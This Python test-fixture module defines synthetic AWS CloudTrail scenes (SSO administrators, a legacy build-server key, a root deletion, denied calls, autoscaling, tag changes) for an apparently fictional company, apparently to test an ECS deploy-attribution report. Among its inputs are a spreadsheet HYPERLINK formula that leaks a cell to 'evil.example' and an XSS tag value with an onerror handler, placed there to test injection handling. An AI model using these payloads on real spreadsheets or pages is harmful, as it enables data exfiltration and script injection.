"""People, their keys and their tags; AWS services on their own; other CI."""
from .callers import BROWSER, CLI, console_user, root, service_role, sso, user
from .grants import assume_role, github_identity, web_identity
from .identifiers import access_key, image_digest, later, uuid
from .organisation import (ECS_OPERATOR, EUROPE, GITHUB_DEPLOY, IRIS, LEGACY, LEGACY_DEPLOY, PIPELINE_PRODUCTION,
                           PIPELINE_STAGING, PRODUCTION, SCHEDULER, STAGING, VIRGINIA, autoscaling_role, sso_role)
from .scenes_sessions import deploy, production_step, staging_step
from .story import scene

OFFICE = "198.51.100.{}"
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"aws-cli/2.27.41")'


def administrator(person, label, time, host, console=False, account=PRODUCTION, permission_set="Administrator"):
    """A person with a permission set of IAM Identity Center."""
    return sso(sso_role(account, permission_set), f"{person}@northwind.example", access_key(label),
               later(time, -300), OFFICE.format(host), console=console)


def legacy_user(agent=None):
    """The one key of the old build server."""
    return user(LEGACY, "svc-buildserver", access_key("legacy build server", "AKIA"), "192.0.2.77",
                agent or "aws-cli/1.16.263 Python/2.7.18 Linux/4.14.355 botocore/1.12.253")


@scene("console-sso", "16 16:20", """An administrator signed in through IAM Identity Center restarts depot-sync in the
    web console. No grant of such a session is in any log.""")
def console_sso(world, situation, time):
    person = administrator("iris.okafor", situation, time, 40, console=True)
    world.update(situation, situation, person, time, world.services[("production", "depot-sync")], "restart",
                 force=True)


@scene("sso-role", "23 16:00", """The same administrator, in a terminal, takes the ecs-operator role first: one hop from
    an Identity Center session.""")
def sso_to_role(world, situation, time):
    person = administrator("iris.okafor", situation, time, 40)
    operator = assume_role(world.journal, situation, person, ECS_OPERATOR, time, "iris", link="access-key")
    service = world.services[("production", "depot-sync")]
    world.update(situation, situation, operator, later(time, 30), service, "rollback",
                 revision=service.revision - 1)


@scene("console-iam-user", "17 16:00", """An IAM user signed in to the legacy account's console changes the grace
    period.""")
def console_iam_user(world, situation, time):
    person = console_user(LEGACY, "t.lindqvist", access_key(situation), later(time, -700), OFFICE.format(52))
    world.update(situation, situation, person, time, world.services[("legacy", "legacy-portal")], "config",
                 config={"healthCheckGracePeriodSeconds": 120})


@scene("static-key", "05 11:00", """The legacy account's build server deploys with a user's own key: the cluster is the
    default one (not named), the service's ARN the short one; the second time its user agent is a spreadsheet
    formula.""")
@scene("static-key", "12 11:00")
def static_key(world, situation, time):
    first = time.day == 5
    key = legacy_user(None if first else FORMULA_AGENT)
    service = world.services[("legacy", "legacy-portal")]
    label = f"{situation}/{time.day}"
    revision = world.register(label, key, time, service.family, f"registry.northwind.example/portal:{time.day}")
    world.update(label, situation, key, later(time, 5), service, "deploy", revision=revision, cluster_as="none",
                 name_as="name" if first else "arn", definition_as="family" if first else "revision")


@scene("static-key-role", "06 11:00", """The same key takes a role first: one hop, and the chain's root is the key. The
    service is named by its short ARN in a cluster of another name.""")
def static_key_role(world, situation, time):
    session = assume_role(world.journal, situation, legacy_user(), LEGACY_DEPLOY, time, "buildserver",
                          link="access-key", region=VIRGINIA)
    service = world.services[("legacy", "legacy-batch")]
    revision = world.register(situation, session, later(time, 4), service.family,
                              "registry.northwind.example/batch:6")
    world.update(situation, situation, session, later(time, 9), service, "deploy", revision=revision,
                 name_as="arn", definition_as="family")


@scene("root-user", "19 07:00", """The legacy account's root user deletes a service. It has no tags in any export, and
    only ECS's answer tells what ran.""")
def root_user(world, situation, time):
    owner = root(LEGACY, access_key(situation), later(time, -120), "192.0.2.200")
    world.delete(situation, situation, owner, time, world.services[("legacy", "legacy-reports")])


@scene("denied-static-key", "22 03:10", """At night somebody tries the build server's key from another network, twice:
    refused, and CloudTrail logs no parameters.""")
def denied_static_key(world, situation, time):
    thief = legacy_user("Boto3/1.26.0 Python/3.8.10 Linux/5.4.0 Botocore/1.29.0").but(ip="203.0.113.250")
    service = world.services[("legacy", "legacy-portal")]
    for turn, error in enumerate(("AccessDenied", "AccessDeniedException")):
        world.update(f"{situation}/{turn}", situation, thief, later(time, 7 * turn), service, "unknown",
                     nothing_logged=True, error=error,
                     message=f"User: {thief.arn} is not authorized to perform: ecs:UpdateService")


@scene("denied-pipeline", "03 11:00", """A pipeline whose role lost a permission: the step is known, service and cluster
    are not, since a refused call logs no parameters.""")
def denied_pipeline(world, situation, time):
    _, _, step = production_step(world, situation, "rates-service", time, IRIS)
    step.failed = True
    session = web_identity(world.journal, situation, PIPELINE_PRODUCTION, step, later(step.started, 8))
    world.update(situation, situation, session, later(step.started, 12),
                 world.services[("production", "rates-service")], "unknown", nothing_logged=True,
                 error="AccessDenied", message=f"User: {session.arn} is not authorized to perform: ecs:UpdateService")


@scene("scaling", "08 17:30", """A person scales up, Application Auto Scaling scales down and up: desired counts only,
    no deploys, shown with `--all`.""")
@scene("scaling", "25 17:30")
def scaling(world, situation, time):
    label = f"{situation}/{time.day}"
    service = world.services[("production", "tracking-web")]
    person = administrator("iris.okafor", label, time, 40, permission_set="OnCall")
    world.update(label + "/person", situation, person, time, service, "scale", desired=6, in_default=False)
    robot = service_role(autoscaling_role(PRODUCTION), "AutoScaling-UpdateDesiredCapacity", None,
                         later(time, 3500), "ecs.application-autoscaling.amazonaws.com", "service")
    for turn, desired in enumerate((4, 3)):
        world.update(f"{label}/robot/{turn}", situation, robot, later(time, 3600 + 900 * turn), service, "scale",
                     desired=desired, in_default=False, invoked_by="ecs.application-autoscaling.amazonaws.com")


@scene("run-task-scheduler", "12 03:00", """EventBridge Scheduler runs a nightly task with the role it was given: no
    deploy, and no pipeline.""")
@scene("run-task-scheduler", "26 03:00")
def run_task_scheduler(world, situation, time):
    service = world.services[("production", "depot-sync")]
    label = f"{situation}/{time.day}"
    robot = service_role(SCHEDULER, uuid(label).replace("-", ""), access_key(label), time, "scheduler.amazonaws.com",
                         "role")
    digests = [image_digest("nightly"), image_digest("nginx")]
    world.run_task(label, situation, robot, time, service, service.revision, digests=digests, in_default=False,
                   invoked_by="scheduler.amazonaws.com")


@scene("github-actions", "23 11:00", """A GitHub Actions job deploys the documentation: an OIDC session that is tied to
    its grant, and no Bitbucket step.""")
def github_actions(world, situation, time):
    session = github_identity(world.journal, situation, GITHUB_DEPLOY, "northwind-parcel/docs", time)
    deploy(world, situation, situation, session, later(time, 6), world.services[("staging", "docs-site")],
           "ghcr.io/northwind-parcel/docs:2026-09-23")


@scene("app-runner", "23 11:40", """App Runner has an UpdateService too: another event source, no row.""")
def app_runner(world, situation, time):
    person = administrator("jonas.weber", situation, time, 24, account=STAGING, permission_set="Developer")
    arn = f"arn:aws:apprunner:{EUROPE}:{STAGING.id}:service/landing-page/{uuid(situation).replace('-', '')}"
    world.journal.write(situation, time, person, "apprunner.amazonaws.com", "UpdateService",
                        {"serviceArn": arn, "sourceConfiguration": {"imageRepository": {
                            "imageIdentifier": "public.ecr.aws/northwind/landing:12"}}},
                        {"service": {"serviceArn": arn, "serviceName": "landing-page", "status":
                                     "OPERATION_IN_PROGRESS"}, "operationId": uuid(situation + "/operation")})


@scene("environment-tag-changed", "05 10:00", """tracking-web in staging: a TagResource sets `staging` on
    the 5th, another `qa` on the 15th. The export shows `qa`; what it was before the 5th nobody knows.""")
@scene("environment-tag-changed", "15 10:00")
def environment_tag_changed(world, situation, time):
    label = f"{situation}/{time.day}"
    service = world.services[("staging", "tracking-web")]
    person = administrator("iris.okafor", label, time, 40, account=STAGING)
    world.tag(label, situation, person, time, service, {"environment": "staging" if time.day == 5 else "qa"})
    _, image, step = staging_step(world, label, "tracking-web", later(time, 600), IRIS)
    session = web_identity(world.journal, label, PIPELINE_STAGING, step, later(step.started, 8))
    deploy(world, label, situation, session, later(step.started, 12), service, image)


@scene("tag-set-and-removed", "14 07:00", """A `freeze` tag is set on label-worker in production, seen by the change
    made meanwhile, and removed. In staging, `environment` is set on rates-service and removed: before and after,
    `Stage` names the environment.""")
@scene("tag-set-and-removed", "20 07:00")
def tag_set_and_removed(world, situation, time):
    worker, rates = world.services[("production", "label-worker")], world.services[("staging", "rates-service")]
    label = f"{situation}/{time.day}"
    person = administrator("mei.tanaka", label + "/production", time, 31)
    tester = administrator("mei.tanaka", label + "/staging", time, 31, account=STAGING)
    if time.day == 14:
        world.tag(label, situation, person, time, worker, {"freeze": "until=2026-09-20"})
        world.tag(label + "/rates", situation, tester, later(time, 40), rates, {"environment": "staging"})
    else:
        world.untag(label, situation, person, time, worker, ["freeze"])
        world.untag(label + "/rates", situation, tester, later(time, 40), rates, ["environment"])
    world.update(label + "/config", situation, person, later(time, 90), worker, "config",
                 config={"enableECSManagedTags": True})


@scene("hostile-tag", "09 07:30", """Somebody writes HTML into a tag of tracking-web in production.""")
def hostile_tag(world, situation, time):
    person = administrator("iris.okafor", situation, time, 40)
    service = world.services[("production", "tracking-web")]
    world.tag(situation, situation, person, time, service, {"banner": "<img src=x onerror=alert(1)>"})
    world.update(situation, situation, person.but(agent=CLI.format("ecs.update-service")), later(time, 200), service,
                 "config", config={"propagateTags": "SERVICE"})


@scene("short-arn-tag", "26 09:00", """A tag set through a short service ARN, which does not name the cluster; then a
    restart in the console.""")
def short_arn_tag(world, situation, time):
    person = console_user(LEGACY, "t.lindqvist", access_key(situation), later(time, -60), OFFICE.format(52))
    service = world.services[("legacy", "legacy-batch")]
    world.tag(situation, situation, person.but(agent=BROWSER), time, service, {"stage": "legacy-batch", "owner": "tools"})
    world.update(situation, situation, person, later(time, 50), service, "restart", force=True)
